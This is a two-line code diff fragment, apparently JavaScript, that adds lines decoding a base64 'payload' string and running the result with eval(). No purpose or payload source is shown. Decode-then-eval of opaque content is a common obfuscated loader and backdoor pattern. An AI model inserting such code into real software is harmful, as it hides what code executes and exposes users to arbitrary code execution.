@@ -1,0 +1,2 @@
+const code = Buffer.from(payload, "base64").toString();
+eval(code);
